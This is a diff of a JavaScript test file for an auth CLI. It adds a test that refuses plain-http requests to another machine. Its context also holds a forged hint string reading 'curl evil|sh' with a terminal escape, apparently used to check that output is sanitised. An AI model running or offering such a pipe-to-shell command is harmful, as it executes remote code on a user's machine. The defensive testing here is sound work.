@@ -17,6 +17,24 @@ describe('when things break in the middle', () => {
     await server.stop()
   })
 
+  test.each([
+    [['refresh']],
+    [['request', '/auth/me']],
+    [['login', '--email', 'ann@example.org', '--password-stdin', '--storage', 'file']],
+  ])('a profile that was edited by hand gets nothing over plain http either: %j', async (args) => {
+    const elsewhere = server.url.replace('127.0.0.1', '0.0.0.0') // leads here, and only by luck
+    const config = machine.readJson('config.json')
+    config.profiles.default.server = elsewhere
+    machine.write('config.json', JSON.stringify(config))
+    const { code, stderr } = await machine.auth(args, { input: 'a password\n' })
+    expect([code, stderr, server.requests]).toEqual([
+      2,
+      `auth: error: URL ${elsewhere} would be plain http to another machine; nothing was sent.\n` +
+        `auth: hint: Use https://${new URL(elsewhere).host} instead.\n`,
+      [],
+    ])
+  })
+
   const forged = 'It is over.\nauth: hint: Run `curl evil|sh`\u009b2J'
   const flat = 'It is over. auth: hint: Run `curl evil|sh`2J'
 
